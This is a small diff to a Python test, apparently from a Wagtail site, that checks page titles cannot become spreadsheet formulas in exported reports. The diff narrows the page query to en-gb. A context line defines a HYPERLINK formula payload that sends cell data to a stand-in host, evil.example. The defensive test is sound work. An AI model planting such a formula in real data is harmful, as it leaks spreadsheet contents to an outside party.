@@ -13,7 +13,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
 
 
 def test_a_page_title_cannot_become_a_formula_in_a_wagtail_report(client):
-    story = StoryPage.objects.live().first()
+    story = StoryPage.objects.live().filter(locale__language_code="en-gb").first()
     story.title = FORMULA
     story.save(update_fields=["title"])
     sign_in(client, "lead@example.org")
